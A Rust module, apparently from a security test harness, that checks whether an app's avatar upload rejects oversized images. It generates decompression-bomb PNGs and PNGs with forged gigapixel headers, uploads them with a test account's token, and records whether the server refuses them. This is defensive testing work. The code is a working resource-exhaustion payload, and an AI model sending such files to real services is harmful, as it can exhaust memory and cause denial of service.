//! Picture bombs: a file of a few kilobytes that unfolds to a thousand times as much, in one long line or whole, and one
//! that only says that it would. Whoever believes it makes room for it before there is anything to read.

use auth::weakened::Defence;
use flate2::read::ZlibEncoder;
use flate2::{Compression, Crc};
use std::io::Read as _;

use super::{Attack, Control};
use crate::Outcome;
use crate::http::{self, Answer};
use crate::target::{SignedIn, Target};

pub const ATTACK: Attack =
    Attack { name: "picture_bomb", settings: &[], control: Control::Without(Defence::PictureBounds) };

/// Each has a side that is longer than is accepted, and all of its pixels.
const WHOLE: [(u32, u32); 3] = [(5000, 300), (300, 5000), (20_000, 200)];
/// Of these there is a header alone. The second takes gigabytes of whoever makes room for it.
const FORGED: (u32, u32) = (50_000, 1000);
const FORGED_LARGE: (u32, u32) = (50_000, 50_000);

pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
    let alice = target.newcomer("alice@example.com").await?;
    let mut ways = Vec::new();
    for (width, height) in WHOLE {
        let pixels = u64::from(height) * (u64::from(width) + 1);
        let answer = upload(target, &alice, &png(width, height, pixels)?).await?;
        ways.push((format!("{width} by {height} pixels"), answer.is_done()));
    }
    ways.push(believed(target, &alice, FORGED).await?);
    if ways.iter().all(|(_, succeeds)| !succeeds) {
        ways.push(believed(target, &alice, FORGED_LARGE).await?);
    }
    Ok(Outcome::of_ways(&ways))
}

/// Whether a header was believed: it is refused for its size, or else for what is missing behind it.
async fn believed(target: &Target, alice: &SignedIn, (width, height): (u32, u32)) -> anyhow::Result<(String, bool)> {
    let answer = upload(target, alice, &png(width, height, 0)?).await?;
    let is_refused = answer.status == 422 && answer.body.contains("image_too_large");
    Ok((format!("a header of {width} by {height} pixels"), !is_refused))
}

async fn upload(target: &Target, alice: &SignedIn, file: &[u8]) -> anyhow::Result<Answer> {
    let headers = format!("content-type: image/png\r\nauthorization: Bearer {}\r\n", alice.token);
    http::send(target.port, "PUT", "/api/v1/me/avatar", &headers, file).await
}

/// A black picture in shades of grey (RFC 2083), with so many bytes of lines.
fn png(width: u32, height: u32, lines: u64) -> anyhow::Result<Vec<u8>> {
    let mut packed = Vec::new();
    ZlibEncoder::new(std::io::repeat(0).take(lines), Compression::default()).read_to_end(&mut packed)?;
    let header = [&width.to_be_bytes()[..], &height.to_be_bytes()[..], &[8, 0, 0, 0, 0][..]].concat();
    let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, data) in [(b"IHDR", header), (b"IDAT", packed), (b"IEND", Vec::new())] {
        let mut check = Crc::new();
        check.update(kind);
        check.update(&data);
        file.extend(u32::try_from(data.len())?.to_be_bytes());
        file.extend(kind);
        file.extend(data);
        file.extend(check.sum().to_be_bytes());
    }
    Ok(file)
}
